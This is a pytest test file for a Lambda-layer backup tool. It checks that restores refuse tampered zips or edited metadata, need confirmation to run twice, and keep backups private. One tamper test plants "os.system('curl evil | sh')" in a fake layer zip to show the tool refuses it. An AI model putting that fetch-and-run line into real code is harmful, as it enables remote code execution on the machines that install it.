"""Restore against an attacker: a tampered backup publishes nothing, a restore knows itself.

The promise (issue 12, "Restore verifies and knows itself"): before publishing, restore checks
the zip against the backup's CodeSize/CodeSha256 and the metadata's account, region, layer and
version against the backup's place and the session's account, and refuses in one line
otherwise; an untouched backup restores byte for byte; a second restore of one backup asks
first (TUI) or needs ``--again`` (CLI); the restored copy is marked and drift never sends
consumers from the real newest build back to it; backups are 0700 folders of 0600 files.

Everything runs against the sandbox over HTTP, with a real wheel's files as the layer.
"""

from __future__ import annotations

import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import urllib3
from textual.app import App
from textual.pilot import Pilot
from textual.screen import Screen
from textual.worker import WorkerState
from ui_fixtures import NOW, FakeScan, make_app, pilot_test

from layer_tui import cli
from layer_tui.aws.inventory import scan_region
from layer_tui.aws.journal import Journal
from layer_tui.aws.models import Inventory, LayerVersion
from layer_tui.aws.operations import LayerOperations
from layer_tui.aws.session import AwsSession, SessionConfig
from layer_tui.sandbox.server import Sandbox

REGION = "eu-north-1"  # a region of the UI fixtures' fake session, for the drift screen
OTHER_REGION = "us-east-1"
SIZE = (120, 40)


@pytest.fixture(scope="session")
def six_layer_zip(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A layer zip of a real wheel (six): its files under ``python/``, as a layer wants them."""
    folder = tmp_path_factory.mktemp("wheel")
    subprocess.run(
        [sys.executable, "-m", "pip", "download", "six", "--no-deps", "--only-binary=:all:",
         "--disable-pip-version-check", "-q", "-d", str(folder)],
        check=True, capture_output=True, timeout=300,
    )
    wheel = next(folder.glob("six-*.whl"))
    buffer = io.BytesIO()
    layer = zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(wheel) as source, layer:
        for info in source.infolist():
            layer.writestr(zipfile.ZipInfo(f"python/{info.filename}", (1980, 1, 1, 0, 0, 0)),
                           source.read(info))
    return buffer.getvalue()


@pytest.fixture
def box() -> Iterator[Sandbox]:
    with Sandbox(regions=(REGION, OTHER_REGION)) as started:
        yield started


def make_ops(box: Sandbox, tmp_path: Path) -> LayerOperations:
    # The default backups root ($XDG_DATA_HOME, in tmp): where the CLI looks too.
    session = AwsSession(SessionConfig(endpoint_url=box.endpoint_url, regions=(REGION,),
                                       rate_per_second=500))
    return LayerOperations(session, Journal(tmp_path / "journal.jsonl"))


def version_of(ops: LayerOperations, name: str, number: int) -> LayerVersion:
    region = scan_region(ops.session, REGION)
    layer = next(layer for layer in region.layers if layer.name == name)
    return next(v for v in layer.versions if v.version == number)


def deleted_backup(box: Sandbox, ops: LayerOperations, data: bytes, name: str = "six") -> Path:
    """Publish ``data`` as NAME:1 with settings, delete it through layer-tui: its backup."""
    box.client("lambda", REGION).publish_layer_version(
        LayerName=name, Content={"ZipFile": data}, Description="six for python",
        LicenseInfo="MIT", CompatibleRuntimes=["python3.12"],
        CompatibleArchitectures=["x86_64"],
    )
    return ops.delete_layer_version(version_of(ops, name, 1)).backup.folder


def layer_names(box: Sandbox, region: str = REGION) -> list[str]:
    return [layer["LayerName"] for layer in box.client("lambda", region).list_layers()["Layers"]]


def versions(box: Sandbox, name: str = "six") -> list[int]:
    listed = box.client("lambda", REGION).list_layer_versions(LayerName=name)["LayerVersions"]
    return sorted(v["Version"] for v in listed)


def run_cli(box: Sandbox, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = cli.main([*args, "--endpoint-url", box.endpoint_url, "--region", REGION])
    out, err = capsys.readouterr()
    return code, out, err


def assert_refused(code: int, err: str, *words: str) -> None:
    assert code == 2, err
    line = err.strip()
    assert "\n" not in line and "Traceback" not in line, err
    assert line.startswith("layer-tui: refusing to restore"), line
    assert "nothing was published" in line, line
    for word in words:
        assert word in line, line


def edit_json(path: Path, change: Any) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


# -- a tampered backup publishes nothing ---------------------------------------------------------


@pytest.mark.parametrize("tamper", ["other zip", "one byte flipped"])
def test_a_replaced_zip_is_refused_and_nothing_is_published(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
    tamper: str,
) -> None:
    """Attack: swap layer.zip for other code (or flip one byte, keeping the size) and restore.

    Promise: the zip is checked against metadata's CodeSize and CodeSha256 first; restore
    refuses in one line, exit 2, and ListLayerVersions is unchanged (nothing published)."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    if tamper == "other zip":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as evil:
            evil.writestr("python/six.py", "import os; os.system('curl evil | sh')\n")
        (folder / "layer.zip").write_bytes(buffer.getvalue())
    else:
        data = bytearray(six_layer_zip)
        data[len(data) // 2] ^= 0xFF
        (folder / "layer.zip").write_bytes(bytes(data))
    before = versions(box)
    code, _, err = run_cli(box, capsys, "restore", str(folder))
    assert_refused(code, err, "layer.zip", "SHA-256")
    assert versions(box) == before == []
    assert not any(e.action == "PublishLayerVersion" for e in ops.journal.entries())


@pytest.mark.parametrize("edit", ["other layer", "other region", "other account",
                                  "not JSON", "no CodeSha256", "policy not JSON"])
def test_an_edited_backup_is_refused_and_nothing_is_published(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
    edit: str,
) -> None:
    """Attack: edit metadata.json so the backup names another layer, region or account (or
    break metadata.json / policy.json), then restore.

    Promise: the metadata's LayerVersionArn must name the backup's own place
    (<account>/<region>/<layer>/<version>) and the files must be what a backup writes;
    otherwise one line, exit 2, and no layer anywhere gains a version."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    meta = folder / "metadata.json"
    account = box.account_id

    def arn(data: dict[str, Any], old: str, new: str) -> None:
        for key in ("LayerVersionArn", "LayerArn"):
            data[key] = data[key].replace(old, new)

    if edit == "other layer":
        edit_json(meta, lambda d: arn(d, ":layer:six", ":layer:evil"))
    elif edit == "other region":
        edit_json(meta, lambda d: arn(d, f":{REGION}:", f":{OTHER_REGION}:"))
    elif edit == "other account":
        edit_json(meta, lambda d: arn(d, f":{account}:", ":999999999999:"))
    elif edit == "not JSON":
        meta.write_text(meta.read_text()[:-20])
    elif edit == "no CodeSha256":
        edit_json(meta, lambda d: d["Content"].pop("CodeSha256"))
    else:
        (folder / "policy.json").write_text("{'Policy': ")
    code, _, err = run_cli(box, capsys, "restore", str(folder))
    word = {"not JSON": "metadata.json is not valid JSON", "no CodeSha256": "CodeSha256",
            "policy not JSON": "policy.json"}.get(edit, "metadata.json describes")
    assert_refused(code, err, word)
    assert layer_names(box, REGION) == [] and layer_names(box, OTHER_REGION) == []


def test_another_accounts_backup_is_refused(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Attack: a consistent backup of account A, placed and restored under account B.

    Promise: the backup's account must be the session's; one line names both, exit 2."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    other = "999999999999"
    moved = folder.parents[3] / other / REGION / "six" / "1"
    moved.parent.mkdir(parents=True)
    folder.rename(moved)
    for name in ("metadata.json",):
        edit_json(moved / name, lambda d: d.update(
            {k: d[k].replace(f":{box.account_id}:", f":{other}:")
             for k in ("LayerVersionArn", "LayerArn")}))
    code, _, err = run_cli(box, capsys, "restore", str(moved))
    assert_refused(code, err, f"account {other}", f"account {box.account_id}")
    assert layer_names(box) == []


def test_a_missing_backup_is_bad_input(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    """Attack: restore a folder that is not there. Promise: one line, exit 2, nothing sent."""
    code, _, err = run_cli(box, capsys, "restore", str(tmp_path / "nothing" / "here"))
    assert_refused(code, err, "not a folder")


def test_read_only_restores_nothing(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Attack: restore with --read-only. Promise: refused in one line (exit 2), nothing sent."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    code, _, err = run_cli(box, capsys, "--read-only", "restore", str(folder))
    assert code == 2 and "--read-only forbids it" in err and err.count("\n") == 1, err
    assert versions(box) == []


# -- an untouched backup restores byte for byte, once unless asked --------------------------------


def test_an_untouched_backup_restores_byte_for_byte_and_is_recorded(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Promise: the untouched backup is published as a new version whose content, downloaded
    from AWS, is the very bytes deleted; its description says it is a restored copy; the
    restore is recorded in the backup folder (when, which ARN, which account); `backups`
    lists it with what it was restored as."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    code, out, err = run_cli(box, capsys, "restore", str(folder), "--json")
    assert code == 0, err
    shown = json.loads(out)
    new_arn = f"arn:aws:lambda:{REGION}:{box.account_id}:layer:six:2"
    assert shown["arn"] == new_arn
    lam = box.client("lambda", REGION)
    restored = lam.get_layer_version(LayerName="six", VersionNumber=2)
    download = urllib3.PoolManager().request("GET", restored["Content"]["Location"])
    assert download.status == 200 and download.data == six_layer_zip
    assert restored["Description"] == "restored from six:1; six for python"
    assert restored["CompatibleRuntimes"] == ["python3.12"] and restored["LicenseInfo"] == "MIT"
    [record] = json.loads((folder / "restored.json").read_text())["restores"]
    assert record["arn"] == new_arn and record["account"] == box.account_id
    assert datetime.strptime(record["restored_at"], "%Y-%m-%dT%H:%M:%SZ")
    code, out, err = run_cli(box, capsys, "backups", "--json")
    assert code == 0, err
    [listed] = json.loads(out)["backups"]
    assert listed["arn"] == f"arn:aws:lambda:{REGION}:{box.account_id}:layer:six:1"
    assert (listed["account"], listed["region"], listed["layer"], listed["version"]) == (
        box.account_id, REGION, "six", 1)
    assert listed["folder"] == str(folder) and listed["code_size"] == len(six_layer_zip)
    assert listed["restored_as"] == new_arn and listed["backed_up_at"]
    code, out, _ = run_cli(box, capsys, "backups")
    assert code == 0 and "six:2" in out and str(folder) in out


def test_a_second_restore_needs_again(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Attack: run the same restore twice (a retried script, a second operator).

    Promise: the second run refuses in one line naming the earlier copy, exit 2, and publishes
    nothing; with restored.json removed, AWS's marked copy still stops it; --again publishes
    one more copy on purpose."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    assert run_cli(box, capsys, "restore", str(folder))[0] == 0
    code, _, err = run_cli(box, capsys, "restore", str(folder))
    assert code == 2 and err.count("\n") == 1, err
    assert "six:1 was already restored as six:2" in err and "--again" in err
    (folder / "restored.json").unlink()
    code, _, err = run_cli(box, capsys, "restore", str(folder))
    assert code == 2 and "already restored as six:2" in err, err
    assert versions(box) == [2]
    code, out, err = run_cli(box, capsys, "restore", str(folder), "--again")
    assert code == 0 and "restored six:1 as six:3" in out, err
    assert versions(box) == [2, 3]


# -- the TUI's restore: the same checks, and it asks before a second copy -------------------------


class Host(App[None]):
    CSS = "Screen { background: $surface; }"

    def __init__(self, dialog: Screen[Any]) -> None:
        super().__init__()
        self.dialog = dialog

    def on_mount(self) -> None:
        self.push_screen(self.dialog)


async def settle(app: App[Any], pilot: Pilot[Any]) -> None:
    await pilot.pause()
    for _ in range(200):
        if not [w for w in app.workers if w.state in (WorkerState.PENDING, WorkerState.RUNNING)]:
            break
        await app.workers.wait_for_complete()
        await pilot.pause()
    await pilot.pause()


def status(app: App[Any]) -> str:
    from layer_tui.ui.dialogs.base import StatusLine

    return str(app.screen.query_one("#status", StatusLine).render())


@pilot_test
async def test_the_dialog_asks_before_restoring_again(
    box: Sandbox, tmp_path: Path, six_layer_zip: bytes
) -> None:
    """Attack: ctrl+s on a backup that was restored before.

    Promise: the dialog says it was already restored as six:2 and asks; nothing is published
    until ctrl+s is pressed again."""
    from layer_tui.ui.dialogs.restore import RestoreDialog

    ops = make_ops(box, tmp_path)
    deleted_backup(box, ops, six_layer_zip)
    app = Host(RestoreDialog(ops))
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        assert "restored six:1 as six:2" in status(app)
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        assert "already restored as six:2" in status(app) and "again?" in status(app)
        assert versions(box) == [2]
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        assert "restored six:1 as six:3" in status(app)
    assert versions(box) == [2, 3]


@pilot_test
async def test_the_dialog_refuses_a_tampered_backup(
    box: Sandbox, tmp_path: Path, six_layer_zip: bytes
) -> None:
    """Attack: a replaced layer.zip, restored from the TUI.

    Promise: the dialog's status line refuses it in one line; nothing is published."""
    from layer_tui.ui.dialogs.restore import RestoreDialog

    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    data = bytearray(six_layer_zip)
    data[len(data) // 3] ^= 0x01  # same size, other bytes
    (folder / "layer.zip").write_bytes(bytes(data))
    app = Host(RestoreDialog(ops))
    async with app.run_test(size=SIZE) as pilot:
        await settle(app, pilot)
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        assert status(app).startswith("refusing to restore") and "layer.zip" in status(app)
    assert versions(box) == []


# -- the restored copy is never "latest" for drift -----------------------------------------------


def test_the_restored_copy_is_not_the_newest_build(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Attack: restore an old build (six:1) after newer ones (six:2, six:3) were published.

    Promise: the copy (six:4) says what it is and ranks as the build it came from: the
    newest build stays six:3, which is behind nothing; the copy is behind it."""
    ops = make_ops(box, tmp_path)
    folder = deleted_backup(box, ops, six_layer_zip)
    lam = box.client("lambda", REGION)
    for n in (2, 3):
        lam.publish_layer_version(LayerName="six", Content={"ZipFile": layer_zip(n)})
    assert run_cli(box, capsys, "restore", str(folder))[0] == 0
    layer = next(x for x in scan_region(ops.session, REGION).layers if x.name == "six")
    by_number = {v.version: v for v in layer.versions}
    assert by_number[4].restored_from == 1 and by_number[3].restored_from is None
    assert layer.newest_build is not None and layer.newest_build.version == 3
    assert layer.behind(by_number[3]) == 0 and layer.behind(by_number[4]) == 2


def layer_zip(n: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("python/six.py", f"__version__ = '{n}'\n")
    return buffer.getvalue()


@pilot_test
async def test_drift_never_sends_consumers_to_a_restored_copy(box: Sandbox) -> None:
    """Attack: geo:4 is a restored copy of geo:1 (its description says so, as restore writes
    it); geo:3 is the real newest build, used by svc-new; svc-old uses geo:2.

    Promise: in the consumers' drift view (`t`) svc-new on geo:3 reads "no" (not behind) and
    svc-old is behind geo:3, not geo:4; the Functions screen says svc-new is up to date; the
    versions screen flags geo:3 LATEST and geo:4 RESTORED."""
    from layer_tui.ui.screens.consumers import ConsumersScreen
    from layer_tui.ui.screens.functions import FunctionsScreen
    from layer_tui.ui.screens.layers import LayersScreen
    from layer_tui.ui.screens.versions import VersionsScreen
    from layer_tui.ui.widgets import ResourceTable

    lam = box.client("lambda", REGION)
    arns = [lam.publish_layer_version(LayerName="geo", Content={"ZipFile": layer_zip(n)})[
        "LayerVersionArn"] for n in (1, 2, 3)]
    lam.publish_layer_version(LayerName="geo", Content={"ZipFile": layer_zip(1)},
                              Description="restored from geo:1; geo tools")
    for name, arn in (("svc-new", arns[2]), ("svc-old", arns[1])):
        lam.create_function(FunctionName=name, Runtime="python3.12",
                            Role=box.execution_role_arn, Handler="app.handler",
                            Code={"ZipFile": layer_zip(0)}, Layers=[arn])
    session = AwsSession(SessionConfig(endpoint_url=box.endpoint_url, regions=(REGION,),
                                       rate_per_second=500))
    scanned = scan_region(session, REGION)
    # The app on the real session; the scan hands it the sandbox's own scan of the region.
    app = make_app(scan=FakeScan(inventory=Inventory(box.account_id, NOW, (scanned,))),
                   session=session)

    def cells(key_end: str) -> str:
        rows = app.screen.query_one(ResourceTable).shown_rows
        row = next(r for r in rows if r.key.endswith(key_end))
        return " | ".join(cell.plain for cell in row.cells)

    async with app.run_test(size=SIZE) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        app.push_screen(ConsumersScreen(arns[2]))
        await pilot.pause()
        await pilot.press("t")
        await pilot.pause()
        assert isinstance(app.screen, ConsumersScreen)
        # The Behind column (a Flags column may follow it).
        assert "| no |" in cells(":svc-new") + " |", cells(":svc-new")
        assert "| 1 (2\N{RIGHTWARDS ARROW}3) |" in cells(":svc-old") + " |", cells(":svc-old")
        app.push_screen(FunctionsScreen(REGION))
        await pilot.pause()
        assert "up to date" in cells(":svc-new")
        assert "geo:2\N{RIGHTWARDS ARROW}3" in cells(":svc-old")
        app.push_screen(VersionsScreen(arns[0].rsplit(":", 1)[0]))
        await pilot.pause()
        assert "LATEST" in cells(":geo:3") and "LATEST" not in cells(":geo:4")
        assert "RESTORED 1" in cells(":geo:4")
        # The layers screen's Latest column names the newest build too, not the copy.
        app.push_screen(LayersScreen(REGION))
        await pilot.pause()
        assert cells(":layer:geo").split(" | ")[1] == "3", cells(":layer:geo")


# -- backups are private ---------------------------------------------------------------------


def test_backup_folders_are_0700_and_files_0600(
    box: Sandbox, tmp_path: Path, capsys: pytest.CaptureFixture[str], six_layer_zip: bytes,
) -> None:
    """Attack: another user on the bastion reads a backup (another account's code, its policy).

    Promise: with a permissive umask, every backup folder we create, from the backups root
    down, is 0700 and every file in it (zip, metadata, policy, restore record) 0600."""
    old = os.umask(0o022)
    try:
        ops = make_ops(box, tmp_path)
        folder = deleted_backup(box, ops, six_layer_zip)
        root = ops.backups
        level = folder
        while True:
            assert stat.S_IMODE(level.stat().st_mode) == 0o700, level
            if level == root:
                break
            level = level.parent
        assert stat.S_IMODE(root.parent.stat().st_mode) == 0o700, root.parent
        assert run_cli(box, capsys, "restore", str(folder))[0] == 0
    finally:
        os.umask(old)
    files = sorted(p.name for p in folder.iterdir())
    assert files == ["layer.zip", "metadata.json", "policy.json", "restored.json"]
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
